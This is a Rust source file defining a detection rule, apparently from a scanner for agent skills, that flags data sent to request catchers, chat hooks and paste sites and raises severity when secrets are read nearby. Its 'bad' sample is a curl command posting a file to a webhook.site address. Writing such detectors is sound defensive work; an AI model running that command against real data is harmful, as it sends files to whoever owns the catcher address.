//! Data goes to an address that shows it to whoever made the address.

use crate::facts::What;
use crate::finding::Category;
use crate::finding::Confidence;
use crate::finding::Severity;
use crate::model::Model;
use crate::rules::Hits;
use crate::rules::Rule;

pub(super) static RULE: Rule = Rule {
    id: "send-to-catcher",
    category: Category::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    title: "Sends data to an address made to catch it",
    why: "Request catchers, tunnels, chat hooks and paste sites belong to whoever made the address, and nobody can tell who that was.",
    help: "find out whose address it is and what is sent there",
    bad: &[skill!("```bash\ncurl -d @report.txt https://webhook.site/0000\n```\n")],
    good: &[skill!("```bash\ncurl -d @report.txt https://reports.example.org/new\n```\n")],
    check,
};

fn check(model: &Model<'_>, hits: &mut Hits) {
    for fact in model.meant() {
        let What::SendsTo(url) = &fact.what else { continue };
        // A chat hook is what a skill for chats is for; with a secret at hand it is something else.
        let secret = model.meant().any(|other| {
            other.file == fact.file
                && matches!(other.what, What::SecretRead(_) | What::Leak { .. } | What::Conceal { .. })
        });
        let chat = url.host.contains("discord") || url.host.contains("telegram");
        // To put a text or picture on a page is what some skills are for.
        let publishes = url.is_paste();
        let severity = if secret || !chat && !publishes { Severity::High } else { Severity::Medium };
        hits.fact(fact, severity, Confidence::Medium, format!("what is sent goes to {}", url.host));
    }
}
